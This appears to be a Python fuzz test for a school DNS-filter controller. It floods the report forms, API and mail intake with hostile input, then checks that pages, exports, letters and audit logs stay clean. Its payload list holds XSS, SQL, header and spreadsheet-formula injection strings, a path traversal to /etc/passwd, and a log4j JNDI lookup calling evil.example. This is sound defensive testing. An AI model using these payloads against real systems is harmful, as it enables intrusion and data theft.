"""`python -m tests.controller.reports.hostile [HOW MANY] [SEED]`: reports that try everything, and what none may do.

Each goes in by one of three doors (API, the page at the door, a letter); then every page, list, letter and log line
that shows one is looked at. Prints what it did, and ends with status 1 where anything was broken.
"""

from __future__ import annotations

import json
import random
import sys
import tempfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from starlette.testclient import TestClient

from controller.accounts import TokenKind
from controller.api import report_desk as desk
from controller.api.access import SESSION_COOKIE
from controller.api.app import make_app
from controller.api.throttle import Throttle
from controller.policy.file import parse
from controller.reports.mail import Unreadable, read_letter
from controller.reports.model import Means
from controller.reports.notices import Notice
from controller.reports.obstacles import obstacles
from controller.reports.rounds import Rounds
from controller.web.doorway.app import make_doorway
from controller.web.doorway.reporting import AT_THE_DOOR
from dns_filter import lists, shipped
from dns_filter.names import to_text
from tests.controller.api.pages import Page
from tests.fakes.site import PASSWORD, POLICY, FakeSite, open_site

DOOR = "http://10.10.0.9"
LONG = 64 * 1024
JUNK = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}{% raw %}", "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "\r\nBcc: all@school.example\r\n\r\n", "%0d%0aSet-Cookie:x=1",
    "\u202egnp.exe",
    "\0\x1b[2J\x07", "'; DROP TABLE reports; --", "\ud800\udfff", "=cmd|'/c calc'!A1", "../../etc/passwd", "🦄" * 30,
    "${jndi:ldap://evil.example/x}", "<!--", "]]>", "\u2028\u2029", "A" * LONG,
)  # fmt: skip
SCRIPTS = (
    "пример.рф",
    "例え.テスト",
    "مثال.إختبار",
    "faß.de",
    "аpple.com",
    "xn--80ak6aa92e.com",
    "☃.net",
    "a\u0301.example.org",
)
ADDRESSES = ("192.0.2.7", "[2001:db8::1]", "0x7f.1", "2130706433", "127.0.0.1:8080", "::ffff:192.0.2.1")
SCHEMES = (
    "",
    "http://",
    "https://",
    "HTTPS:\\\\",
    "//",
    "view-source:https://",
    "javascript:",
    "data:,",
    "ftp://u:p@",
    "blob:",
)


def guarded() -> list[str]:
    records = [to_text(each.name) for each in (*shipped.essential(), *shipped.protected())]
    apexes = [to_text(each) for each in shipped.shared_hosts()]
    return [*records, *apexes, "co.uk", "com", "github.io", "sch.uk", "ashlane.example", "ashlane.internal", "local"]


def site_text(dice: random.Random, names: list[str]) -> str:
    host = dice.choice(
        (
            lambda: f"bad-{dice.randrange(2000)}.example.org",
            lambda: dice.choice(names),
            lambda: f"www.{dice.choice(names)}",
            lambda: dice.choice(names).partition(".")[2] or "com",
            lambda: dice.choice(SCRIPTS),
            lambda: dice.choice(ADDRESSES),
            lambda: dice.choice(JUNK),
            lambda: "".join(chr(dice.randrange(1, 0x11000)) for _ in range(dice.randrange(1, 80))),
        )
    )()
    return f"{dice.choice(SCHEMES)}{host}{dice.choice(('', '/', '/x?y=<b>#z', '@evil.example.org', ':8080', '.'))}"


def said_text(dice: random.Random) -> str:
    return " ".join(dice.choice(JUNK) for _ in range(dice.randrange(0, 4)))


@dataclass
class Postbox:
    letters: list[Notice] = field(default_factory=list)

    def __bool__(self) -> bool:
        return True

    def send(self, notice: Notice) -> bool:
        self.letters.append(notice)
        return True


@dataclass
class Campaign:
    site: FakeSite
    dice: random.Random
    names: list[str]
    api: TestClient
    door: TestClient
    statuses: Counter[str] = field(default_factory=Counter)
    broken: list[str] = field(default_factory=list)

    def send(self) -> None:
        text, said = site_text(self.dice, self.names), said_text(self.dice)
        self.dice.choice((self._by_api, self._by_api, self._by_door, self._by_letter))(text, said)

    def _by_api(self, text: str, said: str) -> None:
        body = json.dumps({"site": text, "said": said, "block": True})
        answer = self.api.post("/api/v1/reports", content=body.encode(), headers={"Content-Type": "application/json"})
        self._note("api", answer.status_code, (201, 413, 422))

    def _by_door(self, text: str, said: str) -> None:
        self.door.app.state.throttle = Throttle()  # type: ignore[attr-defined]
        plain = {"site": text.encode("utf-8", "replace").decode(), "said": said.encode("utf-8", "replace").decode()}
        answer = self.door.post("/doorway/report", data=plain, headers={"Origin": DOOR})
        self._note("door", answer.status_code, (303, 413, 422))

    def _by_letter(self, text: str, said: str) -> None:
        raw = f"From: {said[:200]}\r\nSubject: {said[:500]}\r\n\r\n{text}\r\n{said}".encode("utf-8", "replace")
        try:
            found = read_letter(raw)
        except Unreadable:
            self.statuses["letter refused"] += 1
            return
        told = desk.Told(site=" ".join(found.sites) or text, said=found.said, means=Means.MAIL, by=found.sender)
        desk.take(self.site, AT_THE_DOOR, told)
        self.statuses["letter read"] += 1

    def _note(self, door: str, status: int, fine: tuple[int, ...]) -> None:
        self.statuses[f"{door} {status}"] += 1
        if status not in fine:
            self.broken.append(f"{door} answered {status}")


def wrong(campaign: Campaign) -> Iterator[str]:
    """Everything that shows a report, looked at."""
    yield from campaign.broken
    yield from wrong_rules(campaign.site)
    yield from wrong_pages(campaign.site)
    yield from wrong_exports(campaign)
    yield from wrong_letters(campaign.site)
    yield from wrong_audit(campaign.site)


def wrong_rules(site: FakeSite) -> Iterator[str]:
    for rule in site.store.site_rules(20_000):
        if found := obstacles(rule.pattern, site.policy):
            yield f"{rule.pattern} is blocked: {found[0].text}"


def wrong_pages(site: FakeSite) -> Iterator[str]:
    app = make_app(site)
    client = TestClient(app, headers={"Origin": "http://testserver"}, follow_redirects=False)
    secret = site.secret(site.account("head", password=PASSWORD), TokenKind.SESSION)
    client.cookies.set(SESSION_COOKIE, secret)
    api = TestClient(app, headers={"Authorization": f"Bearer {site.secret(site.account('ict_lead'))}"})
    cases, after = [], ""
    while found := site.store.cases(500, waiting=True, before=after):
        cases += found
        after = found[-1].id
    step = max(1, len(cases) // 400)
    for path in ("/", "/cases", "/site-rules", *(f"/cases/{case.id}" for case in cases[::step])):
        yield from wrong_page(path, client.get(path).text)
    for case in cases[::step]:
        answer = api.get(f"/api/v1/cases/{case.id}")
        if answer.status_code != 200:
            yield f"case {case.id}: {answer.status_code}"


def wrong_page(path: str, html: str) -> Iterator[str]:
    try:
        page = Page(html)
    except AssertionError as error:
        yield f"{path}: {error}"
        return
    scripts = [each.get("src") for each in page.all("script")]
    if scripts != ["/static/htmx.min.js"]:
        yield f"{path}: scripts {scripts}"
    for tag, attributes in page.elements:
        if any(name.startswith("on") for name in attributes) or (
            tag in ("iframe", "object", "embed", "img") and attributes.get("src") != "/static/key.svg"
        ):
            yield f"{path}: {tag} {attributes}"
        if str(attributes.get("href", "")).lower().startswith(("data:", "javascript:")):
            yield f"{path}: a link to {attributes['href']}"
    if any(not (each.isprintable() or each in "\n\t") for each in html.replace("\ufffd", "")):
        yield f"{path}: a character that no screen shows"


def wrong_exports(campaign: Campaign) -> Iterator[str]:
    for form in ("domains", "hosts", "adblock", "dnsmasq", "unbound", "rpz"):
        text = campaign.api.get(f"/api/v1/site-rules/export?format={form}").text
        found = lists.parse(text.encode(), "auto" if form in ("domains", "hosts") else form)  # type: ignore[arg-type]
        if found.invalid:
            yield f"export {form}: {found.invalid[:3]}"
        if not text.isascii() or any(not (each.isprintable() or each == "\n") for each in text):
            yield f"export {form}: a character that has no business there"


def wrong_letters(site: FakeSite) -> Iterator[str]:
    post = Postbox()
    rounds = Rounds(site.store, site.clock, lambda: site.policy, lambda _: None, post, site.query_log)
    rounds.turn()
    if not post.letters:
        yield "nobody was written to"
    for letter in post.letters:
        if not letter.title.isprintable() or not letter.to.isprintable():
            yield f"a header: {letter.title!r}"
        if any(not (each.isprintable() or each == "\n") for each in letter.body):
            yield "a letter with a character that no screen shows"
        if any(word in letter.body for word in ("script", "Bcc", "javascript", "jndi")):
            yield "a letter with a reporter's words"


def wrong_audit(site: FakeSite) -> Iterator[str]:
    if (number := site.store.verify_audit()) is not None:
        yield f"the audit is broken at {number}"
    for row in site.store.latest_audit(2000):
        line = json.dumps({"subject": row.subject, "detail": dict(row.detail)}, default=str)
        if "\n" in line or not line.isprintable():
            yield f"a line of the audit: {line[:80]}"


def run(count: int, seed: int, folder: Path) -> tuple[Counter[str], list[str]]:
    dice = random.Random(seed)
    site = open_site(folder)
    site.policy = parse(POLICY + "dns: {internal: {ashlane.internal: []}}\n", "school.yaml").policy
    once = site.loop.intent()
    site.loop.intent = lambda: once  # type: ignore[method-assign]  # compiled anew for every report it would take hours
    try:
        token = site.secret(site.account("teacher"))
        lead = site.secret(site.account("ict_lead"))
        api = TestClient(make_app(site), headers={"Authorization": f"Bearer {token}"}, raise_server_exceptions=False)
        door = TestClient(
            make_doorway(site),
            DOOR,
            client=("10.20.0.11", 40_000),
            follow_redirects=False,
            raise_server_exceptions=False,
        )
        campaign = Campaign(site, dice, guarded(), api, door)
        for _ in range(count):
            campaign.send()
        api.headers["Authorization"] = f"Bearer {lead}"
        found = list(wrong(campaign))
        campaign.statuses["cases"] = site.store.count_waiting()
        campaign.statuses["blocked at once"] = len(site.store.site_rules(20_000))
        return campaign.statuses, found
    finally:
        site.store.close()


def main(words: list[str]) -> int:
    count, seed = (*map(int, words), *(10_000, 1)[len(words) :])
    with tempfile.TemporaryDirectory() as folder:
        statuses, found = run(count, seed, Path(folder))
    print(f"{count} reports, seed {seed}: " + ", ".join(f"{what} {times}" for what, times in sorted(statuses.items())))
    for each in found[:20]:
        print(f"  wrong: {each}")
    print("nothing was broken" if not found else f"{len(found)} things were broken")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
